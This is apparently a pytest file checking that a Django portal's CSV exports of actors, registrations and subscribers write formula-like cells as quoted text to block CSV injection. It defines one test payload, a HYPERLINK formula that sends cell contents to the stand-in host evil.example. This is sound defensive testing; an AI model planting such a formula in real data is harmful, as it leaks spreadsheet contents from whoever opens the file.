"""Spreadsheet formulas typed by visitors are written as text in every CSV export.

A visitor controls what goes into the actors' book (through proposals and imports), the
registrations (their name) and the subscribers (their address). A cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by Excel and
LibreOffice when the animator opens the file (OWASP "CSV injection"): each such cell is
written with a leading ``'``, which spreadsheets show as text. Plain numbers (a negative
longitude) cannot be formulas and stay as they are.

The consultations' answers export is tested with them (``tests/consultations/
test_admin_and_isolation.py``): Wagtail's own submissions export does not neutralise cells.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django_tenants.utils import schema_context

from portal.actors.csv_import import read_csv
from portal.factories import EventPageFactory
from portal.models import Actor
from registrations import lifecycle
from tests.conftest import logged_in
from tests.newsletter.conftest import active_subscriber

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'


def rows_of(content: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-4.486000", "-4.486000"),
        ("Médiathèque = savoir", "Médiathèque = savoir"),
        ("", ""),
    ],
)
def test_cells_that_start_like_a_formula_are_written_as_text(typed, written):
    from core.spreadsheets import spreadsheet_text

    assert spreadsheet_text(typed) == written


@pytest.fixture
def animator(alpha, client_for, animator_of):
    return logged_in(client_for(alpha), animator_of(alpha))


def test_the_actors_export_writes_a_formula_in_a_name_as_text(alpha, animator):
    with schema_context(alpha.schema_name):
        Actor.objects.create(name=HYPERLINK, kind=Actor.Kind.ASSOCIATION)
        Actor.objects.create(
            name="Atelier vélo",
            kind=Actor.Kind.ASSOCIATION,
            public_phone="01 23 45 67 89",
            latitude=Decimal("48.100000"),
            longitude=Decimal("-4.486000"),
        )

    response = animator.get("/admin/acteurs/exporter/", {"format": "csv"})

    rows = {row["id"]: row for row in rows_of(response.content, delimiter=";")}
    names = sorted(row["nom"] for row in rows.values())
    assert names == ["'" + HYPERLINK, "Atelier vélo"]
    bike = next(row for row in rows.values() if row["nom"] == "Atelier vélo")
    assert (bike["téléphone"], bike["longitude"]) == ("01 23 45 67 89", "-4.486000")


def test_an_exported_actors_book_reads_back_without_the_added_quote(alpha, animator):
    with schema_context(alpha.schema_name):
        Actor.objects.create(
            name="-Le Collectif-", kind=Actor.Kind.ASSOCIATION, public_phone="+33 1 23 45 67 89"
        )
        exported = animator.get("/admin/acteurs/exporter/", {"format": "csv"}).content

        plan = read_csv(exported.decode("utf-8-sig"))

    [line] = [line for line in plan.lines if line.values.get("name") == "-Le Collectif-"]
    assert line.values["public_phone"] == "+33 1 23 45 67 89"


def test_the_registrations_export_writes_a_formula_in_a_name_as_text(alpha, animator):
    with schema_context(alpha.schema_name):
        event = EventPageFactory(registrations_open=True, places=5)
        lifecycle.register(event, HYPERLINK, "piege@example.org", notify=False)
        lifecycle.register(event, "Moussa Diallo", "moussa@example.org", notify=False)

    response = animator.get(f"/admin/inscriptions/?event={event.pk}&export=csv")

    names = sorted(row["Nom"] for row in rows_of(response.getvalue()))
    assert names == ["'" + HYPERLINK, "Moussa Diallo"]


def test_the_subscribers_export_writes_a_formula_in_an_address_as_text(alpha, animator):
    active_subscriber(alpha, "=2+5@example.org")
    active_subscriber(alpha, "lea.martin@example.org")

    response = animator.get("/admin/infolettre/abonnes/?export=csv")

    addresses = sorted(row["Adresse e-mail"] for row in rows_of(response.getvalue()))
    assert addresses == ["'=2+5@example.org", "lea.martin@example.org"]
